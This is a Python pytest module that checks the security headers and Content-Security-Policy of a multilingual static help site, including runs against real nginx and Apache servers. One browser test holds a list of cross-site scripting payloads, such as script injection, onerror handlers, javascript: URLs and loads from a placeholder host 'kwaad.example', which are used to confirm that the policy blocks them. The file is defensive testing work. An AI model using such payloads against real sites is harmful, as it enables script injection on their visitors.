"""What a host is told to send: strict enough to stop an attack, and no page of ours is hindered by it."""

from __future__ import annotations

import re
import socket
import subprocess
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from email.message import Message
from functools import cache
from html import unescape
from pathlib import Path
from shutil import which

import pytest
from browser import Watched
from conftest import MKDOCS
from pages import long_lived, read_tree, render, whole_site
from playwright.sync_api import Browser, BrowserContext
from wordpress import header_rules, provider, until

from eigentaal.policy import inline_scripts, policy, with_policy, without_policy

THEME, DANGER, GUIDE = "opvoeden/boze-buien/", "spoed/rust/", "intermediairs/gids/"
PAGES = [
    f"{language}{page}"
    for language in ("", "ar/", "tr/")
    for page in ("", THEME, DANGER, GUIDE, "opvoeden/", "404.html", "offline.html")
] + [f"embed/{language}/{THEME}" for language in ("nl", "ar", "tr")]


# -- the policy itself -------------------------------------------------------------------------------------------------


def test_a_script_inside_a_page_is_named_by_its_hash_and_data_is_not() -> None:
    html = '<script>a</script><script src="b.js"></script><script type="application/json" id="x">{}</script>'
    assert inline_scripts(html) == {"'sha256-ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs='"}


def test_every_page_in_the_frame_of_others_names_the_scripts_it_holds_and_parents_pages_none() -> None:
    found = 0
    for name, data in read_tree(whole_site()).items():
        if not name.endswith(".html") or name.startswith("embed/"):
            continue
        html = data.decode()
        [own] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
        assert html.index("Content-Security-Policy") < html.index("<title"), name  # what stands before it isn't held
        assert set(re.findall(r"'sha256-[^']*'", unescape(own))) == inline_scripts(html), name
        assert "unsafe" not in own
        found += bool(inline_scripts(html))
    assert found == 3


def test_a_page_without_its_policy_is_as_it_was() -> None:
    html = '<head>\n<meta charset="utf-8">\n<title>x</title>'
    assert without_policy(with_policy(html, "https://hulp.example.org/")) == html


# -- what is sent ------------------------------------------------------------------------------------------------------


def sent(address: str) -> dict[str, list[str]]:
    """The headers for an address, of all rules that fit it."""
    found: dict[str, list[str]] = {}
    for where, headers in header_rules((whole_site() / "_headers").read_text(encoding="utf-8")):
        if f"/{address}" == where or (where.endswith("*") and f"/{address}".startswith(where[:-1])):
            for name, value in headers:
                found.setdefault(name, []).append(value)
    return found


def asset(shape: str) -> str:
    [found] = [name for name in read_tree(whole_site()) if re.fullmatch(shape, name)]
    return found


@pytest.mark.parametrize("address", [*PAGES, "sw.js", "data/v1/index.json", "assets/x.css", "weg/er/niet/"])
def test_every_answer_is_safe(address: str) -> None:
    headers = sent(address)
    assert headers["X-Content-Type-Options"] == ["nosniff"]
    assert headers["Referrer-Policy"] == ["no-referrer"]
    assert headers["Strict-Transport-Security"] == ["max-age=31536000"]
    assert "microphone=()" in headers["Permissions-Policy"][0]


@pytest.mark.parametrize("address", [each for each in PAGES if not each.startswith("embed/")])
def test_every_page_has_its_policy_and_is_asked_for_anew(address: str) -> None:
    """Some hosts send what two rules say, others the last: both must be right."""
    headers = sent(address)
    policies = headers["Content-Security-Policy"]
    assert headers["Cache-Control"] == ["no-cache", "no-store"][: 2 if DANGER in address else 1]
    assert all(each.startswith("default-src 'none'; script-src 'self' ") for each in policies)
    assert all("unsafe" not in each for each in policies)
    assert ("sha256" in policies[-1]) == (GUIDE in address)
    assert policies[-1].endswith("frame-ancestors 'none'") == (DANGER in address)
    assert len(policies) == (2 if DANGER in address else 1)


def test_what_changes_its_name_is_kept_and_the_rest_is_not() -> None:
    assert sent(asset(r"assets/site\.\w+\.css"))["Cache-Control"] == ["public, max-age=31536000, immutable"]
    assert sent("assets/javascripts/lunr/min/lunr.ar.min.js")["Cache-Control"][-1] == "no-cache"
    for each in ("sw.js", "search/ar.json"):
        assert sent(each)["Cache-Control"] == ["no-cache"]
    for each in ("embed/v1.js", "embed/frame.v1.js"):
        assert sent(each)["Cache-Control"] == ["public, max-age=86400"]
    assert len(sent(f"embed/nl/{THEME}")["Content-Security-Policy"]) == 1


def test_what_a_frame_in_a_sandbox_asks_for_may_be_had_from_anywhere() -> None:
    for each in (asset(r"assets/embed\.\w+\.css"), f"embed/nl/{THEME}", "data/v1/index.json"):
        assert sent(each)["Access-Control-Allow-Origin"] == ["*"]


def test_a_site_in_a_folder_without_encryption_is_sent_as_it_is(project: Callable[..., Path]) -> None:
    made = render(project({"mkdocs.yml": MKDOCS.replace("https://hulp.example.org/", "http://localhost/hulp/")}))
    told = {name: made[name].decode() for name in ("_headers", ".htaccess", "nginx.conf")}
    assert [name for name, text in told.items() if "Strict-Transport-Security" in text] == [], "it has none to ask for"
    assert "ErrorDocument 404 /hulp/404.html" in told[".htaccess"].splitlines()
    assert "set $eigentaal_missing /hulp/404.html;" in told["nginx.conf"].splitlines()
    assert "if ($uri ~ ^/hulp/ar/) { set $eigentaal_missing /hulp/ar/404.html; }" in told["nginx.conf"].splitlines()
    assert made["_redirects"].decode().splitlines()[0] == "/hulp/ar/* /hulp/ar/404.html 404", "nothing moved"


# -- in a browser ------------------------------------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


@pytest.fixture
def visitor(chromium: Browser) -> Iterator[BrowserContext]:
    """A browser that has heard of the site's real address, where Material asks for the map of the site."""
    with chromium.new_context() as context:
        anybody = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/xml"}
        context.route("**/sitemap.xml", lambda route: route.fulfill(body="<urlset/>", headers=anybody))
        yield context


VIOLATIONS = 'window.broken = []; addEventListener("securitypolicyviolation", each => broken.push(each.blockedURI))'


@pytest.mark.browser
def test_no_page_is_hindered_by_the_headers_it_is_sent_with(visitor: BrowserContext) -> None:
    port = free_port()
    visitor.add_init_script(VIOLATIONS)
    with provider(whole_site(), port):
        watched = Watched(visitor, f"http://127.0.0.1:{port}")
        searching = [name for name in read_tree(whole_site()) if "search.js" in name or "zoeken/index.html" in name]
        for each in [*PAGES, *(name for name in searching if name.endswith(".html"))]:
            page = watched.open(each)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("broken") == [], each
        page = watched.open(GUIDE)
        page.locator("[data-md-component=search-query]").click()
        page.keyboard.type("helpt")
        page.locator(".md-search-result__link").first.wait_for()
        assert page.evaluate("broken") == []
    assert watched.complaints == []
    assert watched.dialogs == []


ATTACKS = (
    "const made = document.createElement('script'); made.textContent = 'alert(1)'; document.body.append(made)",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://kwaad.example/\"></iframe>')",
    "document.body.setAttribute('onclick', 'alert(1)'); document.body.click()",
    "location.href = 'javascript:alert(1)'",
    "const made = document.createElement('script'); made.src = 'https://kwaad.example/a.js'; document.body.append(made)",
    "new Image().src = 'https://kwaad.example/a.png'",
    "fetch('https://kwaad.example/a').catch(() => 0)",
    "const made = document.createElement('script'); made.src = 'data:text/javascript,alert(1)'; document.body.append(made)",
    "document.body.insertAdjacentHTML('beforeend', '<p style=\"background:url(https://kwaad.example/b)\">x</p>')",
    "document.body.insertAdjacentHTML('beforeend', '<object data=\"https://kwaad.example/c\"></object>')",
)  # fmt: skip


@pytest.mark.browser
@pytest.mark.parametrize("address", [THEME, GUIDE, f"embed/nl/{THEME}"])
def test_what_gets_into_a_page_all_the_same_is_stopped(address: str, visitor: BrowserContext) -> None:
    port = free_port()
    visitor.add_init_script(VIOLATIONS)
    with provider(whole_site(), port):
        watched = Watched(visitor, f"http://127.0.0.1:{port}")
        left: list[str] = []
        visitor.on("response", lambda answer: left.append(answer.url))
        for attack in ATTACKS:
            page = watched.open(address)
            page.evaluate(f"() => {{ {attack} }}")
            until(lambda: any(frame.evaluate("(window.broken || []).length") for frame in page.frames), attack)  # noqa: B023
    assert watched.dialogs == []
    assert [each for each in left if "kwaad" in each] == []


# -- on real servers ---------------------------------------------------------------------------------------------------


@cache
def answer(origin: str, address: str) -> tuple[int, Message]:
    try:
        with urllib.request.urlopen(f"{origin}/{address}", timeout=60) as got:
            return got.status, got.headers
    except urllib.error.HTTPError as failure:
        return failure.code, failure.headers


NGINX = """
daemon off; pid {at}/pid; error_log {at}/errors;
events {{}}
http {{
  types {{ text/html html; text/css css; text/javascript js; }}
  access_log off;
  client_body_temp_path {at}/a; proxy_temp_path {at}/b; fastcgi_temp_path {at}/c; uwsgi_temp_path {at}/d; scgi_temp_path {at}/e;
  server {{ listen 127.0.0.1:{port}; root {site}; index index.html; include {site}/nginx.conf; }}
}}
"""
APACHE = """
ServerRoot {at}
ServerName localhost
PidFile {at}/pid
ErrorLog {at}/errors
Listen 127.0.0.1:{port}
{modules}
DirectoryIndex index.html
DocumentRoot {site}
<Directory {site}>
  AllowOverride FileInfo
  Require all granted
</Directory>
"""
MODULES = ("mpm_event", "authz_core", "dir", "headers", "alias", "unixd")


@pytest.fixture(params=["nginx", "apache2"])
def server(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """The site on a real server with the files that the build made for it."""
    program = which(request.param, path="/usr/sbin:/usr/bin:/usr/local/bin")
    if program is None:
        pytest.skip(f"{request.param} is not on this machine")
    port, site = free_port(), long_lived() / "site"
    subprocess.run(["cp", "-r", str(whole_site()), str(site)], check=True)
    subprocess.run(["chmod", "-R", "a+rX", str(site.parent)], check=True)
    modules = "\n".join(
        f"LoadModule {each}_module /usr/lib/apache2/modules/mod_{each}.so"
        for each in MODULES
        if Path(f"/usr/lib/apache2/modules/mod_{each}.so").is_file()
    )
    shape = NGINX if request.param == "nginx" else APACHE
    config = tmp_path / "server.conf"
    config.write_text(shape.format(at=tmp_path, port=port, site=site, modules=modules), encoding="utf-8")
    extra = ["-c", str(config)] if request.param == "nginx" else ["-f", str(config), "-DFOREGROUND"]
    with subprocess.Popen([program, *extra], stderr=subprocess.PIPE) as running:
        try:
            for _ in range(100):
                assert running.poll() is None, running.stderr and running.stderr.read().decode()
                with socket.socket() as tried:
                    if tried.connect_ex(("127.0.0.1", port)) == 0:
                        break
                time.sleep(0.05)
            yield f"http://127.0.0.1:{port}"
        finally:
            running.terminate()
            running.wait(10)


def test_a_real_server_sends_what_the_build_asks_for(server: str) -> None:
    for address in PAGES:
        status, headers = answer(server, address)
        assert status == 200, address
        assert headers.get_all("Content-Security-Policy") == [sent(address)["Content-Security-Policy"][-1]], address
        assert headers.get_all("X-Content-Type-Options") == ["nosniff"], address
        assert headers.get_all("Referrer-Policy") == ["no-referrer"], address
        assert headers.get_all("Strict-Transport-Security") == ["max-age=31536000"], address
        assert headers.get_all("Cache-Control") == ["no-store" if DANGER in address else "no-cache"], address
    kept = answer(server, asset(r"assets/site\.\w+\.css"))[1]
    assert kept.get_all("Cache-Control") == ["public, max-age=31536000, immutable"]
    assert kept.get_all("X-Content-Type-Options") == ["nosniff"]
    assert answer(server, "assets/javascripts/lunr/min/lunr.ar.min.js")[1].get_all("Cache-Control") == ["no-cache"]
    assert kept.get_all("Access-Control-Allow-Origin") == ["*"]
    assert answer(server, "sw.js")[1].get_all("Cache-Control") == ["no-cache"]
    assert answer(server, "data/v1/index.json")[1].get_all("Access-Control-Allow-Origin") == ["*"]
    for lost, language in (("weg/er/niet/", "nl"), ("arg/", "nl"), ("ar/weg/", "ar"), ("tr/opvoeden/weg/", "tr")):
        status, headers = answer(server, lost)
        assert status == 404
        assert headers["Content-Security-Policy"] == policy("https://hulp.example.org/")
        with pytest.raises(urllib.error.HTTPError) as told:
            urllib.request.urlopen(f"{server}/{lost}", timeout=60)
        assert f'<html lang="{language}"' in told.value.read().decode()
